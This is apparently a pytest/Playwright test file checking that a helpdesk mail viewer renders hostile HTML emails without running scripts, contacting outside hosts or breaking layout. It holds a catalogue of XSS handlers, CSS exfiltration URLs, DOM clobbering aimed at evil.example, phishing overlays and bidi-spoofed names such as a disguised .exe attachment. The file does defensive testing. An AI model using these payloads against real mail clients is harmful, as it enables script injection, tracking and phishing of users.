"""Mail that means harm, as raw bytes through the mailbox into a real browser: nothing runs, nothing phones home, nothing breaks."""

from __future__ import annotations

import base64
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from uuid import uuid4

import pytest
from browsers import Complaints, Person
from daemons import until
from doors import Demo
from playwright.sync_api import Locator, Page, expect

PIXEL = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")


class Listener:
    """Somebody out there who counts who asks. `heard`: (path, user agent)."""

    def __init__(self) -> None:
        heard = self.heard = list[tuple[str, str]]()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append((self.path, self.headers.get("User-Agent", "")))
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(PIXEL)))
                self.end_headers()
                self.wfile.write(PIXEL)

            do_POST = do_HEAD = do_OPTIONS = do_GET

            def log_message(self, format: str, *args: object) -> None:
                pass
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.stop()


def hostile(out: str) -> dict[str, str]:
    """What such mails are made of; `out` is where they would phone home. `OWNED` is what a script of theirs would do."""
    owned = "(parent||window).owned=1;top.owned=1;window.owned=1"
    return {
        "scripts": f"""<script>{owned};fetch('{out}/script')</script><script src="{out}/script.js"></script>
            <svg onload="{owned}"><script>{owned}</script></svg><math><mtext><style><img src=x onerror="{owned}"></style></mtext></math>
            <img src=x onerror="{owned}"><body onload="{owned}"><details open ontoggle="{owned}">t</details>
            <a href="javascript:{owned}">one</a>
            <a href="java&#10;script:{owned}">two</a>
            <a href="data:text/html,<script>{owned}</script>">3</a>
            <a href="vbscript:x">four</a><iframe srcdoc="<script>{owned}</script>"></iframe><object data="{out}/object"></object>
            <embed src="{out}/embed"><video poster="{out}/poster" autoplay src="{out}/video" onerror="{owned}"></video>
            <audio src="{out}/audio" autoplay></audio><template><script>{owned}</script></template>
            <noscript><p title="</noscript><img src=x onerror={owned}>"></noscript><div style="behavior:url({out}/htc)">hm</div>""",
        "styles": f"""<style>@import url({out}/import.css); @font-face {{ font-family: x; src: url({out}/font.woff) }}
            body, * {{ background: url({out}/background) !important; font-family: x; cursor: url({out}/cursor), auto }}
            input[value^="a"] {{ background: url({out}/value-a) }} a:visited {{ background: url({out}/visited) }}</style>
            <link rel="stylesheet" href="{out}/link.css"><link rel="prefetch" href="{out}/prefetch"><link rel="dns-prefetch" href="{out}">
            <div style="background-image:url('{out}/inline')">one</div><div style="background:u\\72l({out}/escaped)">two</div>
            <table background="{out}/table"><tr><td background="{out}/cell">cell</td></tr></table>""",
        "trackers": f"""<img src="{out}/banner.png" width="300" height="80" alt="banner"><img src="{out}/open.gif" width="1" height="1">
            <img srcset="{out}/srcset.png 2x" src="{out}/plain.png" width=20 height=20>
            <picture><source srcset="{out}/source.png"><img src="{out}/p.png" width=20 height=20></picture>
            <input type="image" src="{out}/input">
            <img src="//{out.removeprefix('http://')}/noscheme.png" width=20 height=20>""",
        "clobbering": """<form id="body" name="documentElement"><input name="innerHTML"><input name="attributes"><input name="head"></form>
            <img name="getElementById"><img name="querySelector"><a id="boot">{"me":null}</a><a id="app" name="app">app</a>
            <a id="location" href="https://evil.example">go</a><form name="head"></form><base href="https://evil.example/">
            <img id="currentScript"><embed name="fetch">""",
        "overlay": f"""<div style="position:fixed;inset:0;z-index:2147483647;background:#f0f"><a href="{out}/click">Log in again</a></div>
            <div style="position:absolute;top:-5000px;left:-5000px;width:20000px;height:20000px">huge</div>
            <div style="margin:-3000px;transform:scale(50);width:9000px">moved</div>""",
        "refresh": f"""<meta http-equiv="refresh" content="0;url={out}/refresh"><meta http-equiv="Set-Cookie" content="inbox_session=x">
            <form action="{out}/form" method="post" target="_top">
            <input name="password" type="password" autofocus><button>Log in</button></form>
            <a href="{out}/ping-target" ping="{out}/ping" target="_top">link</a><frameset onload="top.owned=1"><frame src="{out}/frame">""",
        "nested": "<table><tr><td>" * 3000 + "deep" + "</td></tr></table>" * 3000,
        "word": f"<p>{'W' * 10_000}</p><pre>{'x' * 10_000}</pre><p>{'غ' * 5_000}</p>",
        "large": "<table>" + "<tr><td style='width:3000px'>cell <b>bold</b></td><td>another</td></tr>" * 70_000 + "</table>",
    }


def raw(kind: str, html: str) -> str:
    """A whole mail in base64, with names that turn around what stands beside them."""
    name = "=?utf-8?B?" + base64.b64encode("Ann \u202etroppuS elpmaxE\u202c <admin@shop.example>".encode()).decode() + "?="
    file = "=?utf-8?B?" + base64.b64encode("invoice\u202efdp.exe".encode()).decode() + "?="
    lines = [
        f"From: {name} <{kind}@evil.example>", "To: support@shop.example",
        f"Subject: hostile {kind} \u202egnihton\u2066\u2066\u200f",
        f"Message-ID: <{uuid4().hex}@evil.example>", "Date: Tue, 04 Mar 2026 10:00:00 +0000", "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="b"', "", "--b",
        "Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: base64", "",
        base64.encodebytes(f"<html><body><p>Here begins {kind}.</p>{html}<p>end</p></body></html>".encode()).decode(), "--b",
        f'Content-Type: application/x-msdownload; name="{file}"', f'Content-Disposition: attachment; filename="{file}"', "",
        "MZ", "--b--", ""]
    return base64.b64encode("\r\n".join(lines).encode()).decode()


KINDS = tuple(hostile(""))
PLAIN = {"nested"}  # markup that no browser should have to take is shown as its text


@pytest.fixture(scope="module")
def sent(demo: Demo, listener: Listener) -> dict[str, str]:
    """All of them are in the mailbox: the conversation of each kind."""
    named = {kind: demo.say("support", "eve", "", raw=raw(kind, html)) for kind, html in hostile(listener.url).items()}
    return {kind: str(demo.heard(name, seconds=90)["conversation"]) for kind, name in named.items()}


@pytest.fixture
def opened(built: None, person: Person, sent: dict[str, str]) -> Callable[..., Page]:
    """Opens one of them, and waits until its text stands there. Breaches of the frame's policy are what we want of it."""
    person.complaints.allow("Content Security Policy|Blocked script execution|sandboxed|Permissions policy|ERR_")

    def open_(kind: str, **more: str) -> Page:
        page = person.sit(None, **more)  # type: ignore[arg-type]  # the names of a profile
        page.add_init_script("window.popped = 0; window.open = () => { window.popped += 1; return null }")
        page.goto(f"/queue/all/{sent[kind]}")
        log = page.get_by_role("log", name="Messages")
        if kind in PLAIN:
            expect(log.get_by_text(f"Here begins {kind}.")).to_be_visible()
            expect(log.locator("iframe")).to_have_count(0)
        else:
            expect(_frame(page).content_frame.get_by_text(f"Here begins {kind}.")).to_be_visible()
        return page
    return open_


def _frame(page: Page) -> Locator:
    return page.get_by_role("log", name="Messages").locator("iframe").first


def _holds(page: Page) -> None:
    """The layout and the keys are as with any other conversation."""
    width = page.evaluate("[document.documentElement.scrollWidth, document.body.scrollWidth, innerWidth]")
    assert max(width[:2]) <= width[2], f"the page scrolls sideways: {width}"
    log = page.get_by_role("log", name="Messages")
    assert log.evaluate("log => log.scrollWidth <= log.clientWidth"), "the thread scrolls sideways"
    frames, article = log.locator("iframe"), log.get_by_role("article").first.bounding_box()
    for frame in [frames.nth(n).bounding_box() for n in range(frames.count())]:
        assert frame and article
        assert frame["x"] >= article["x"] - 1, "the frame is in its box"
        assert frame["x"] + frame["width"] <= article["x"] + article["width"] + 1, "the frame is in its box"
    page.keyboard.press("?")
    expect(page.get_by_role("dialog")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog")).to_have_count(0)


def _unharmed(page: Page, demo: Demo) -> None:
    assert page.url.startswith(demo.url), page.url
    assert page.evaluate("[window.owned ?? 0, window.popped]") == [0, 0]
    for frame in page.frames:
        assert frame.evaluate("window.owned ?? 0") == 0, frame.url
        assert frame.url.startswith((demo.url, "about:")), frame.url
        assert frame.locator("script:not([type='application/json']):not([type='module'])").count() == 0
    assert len(page.context.pages) == 1


@pytest.mark.point(21)
@pytest.mark.parametrize("viewport", ["desktop", pytest.param("phone", marks=pytest.mark.long)])
@pytest.mark.parametrize("kind", KINDS)
def test_it_shows_and_does_nothing(kind: str, viewport: str, opened: Callable[..., Page], demo: Demo, listener: Listener) -> None:
    page = opened(kind, viewport=viewport)
    page.wait_for_load_state("networkidle")
    _unharmed(page, demo)
    _holds(page)
    assert listener.heard == [], "it phoned home"


@pytest.mark.point(21)
def test_images_are_fetched_by_the_server_when_asked_for(opened: Callable[..., Page], demo: Demo, listener: Listener,
                                                             complaints: Complaints) -> None:
    page = opened("trackers")
    complaints.allow("404.*image")  # the one that no server has
    assert listener.heard == []
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.get_by_role("button", name="Show images").first.click()
    until(lambda: any(path == "/banner.png" for path, _ in listener.heard), what="the proxy's request")
    expect(_frame(page).content_frame.get_by_role("img", name="banner")).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert all(url.startswith((demo.url, "data:", "blob:")) for url in asked), asked
    assert {agent for _, agent in listener.heard} == {"Mozilla/5.0 (compatible; image proxy)"}, "the browser itself asked"
    assert "/open.gif" not in {path for path, _ in listener.heard}, "a tracker is never fetched"
    _unharmed(page, demo)
    listener.heard.clear()


@pytest.mark.point(22)
def test_names_cannot_turn_around_what_stands_beside_them(opened: Callable[..., Page], demo: Demo) -> None:
    page = opened("scripts")
    log = page.get_by_role("log", name="Messages")
    link = log.get_by_role("link", name="Download").first
    name = str(link.get_attribute("download"))
    assert name.endswith(".exe"), name
    turning = "[\\u202a-\\u202e\\u2066-\\u2069\\u200e\\u200f]"
    shown = page.evaluate(f"""() => {{
      const found = [], walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
      while (walker.nextNode()) {{
        const text = walker.currentNode.data;
        if (!/{turning}/.test(text) || walker.currentNode.parentElement.closest('script')) continue;
        let near = walker.currentNode.parentElement, alone = false;
        for (let up = 0; near && up < 3 && !alone; up += 1, near = near.parentElement) {{
          alone = near.hasAttribute('dir') || /isolate|plaintext/.test(getComputedStyle(near).unicodeBidi);
        }}
        if (!alone) found.push(text.slice(0, 80));
      }}
      return found;
    }}""")
    assert shown == [], "these can turn their neighbours around"
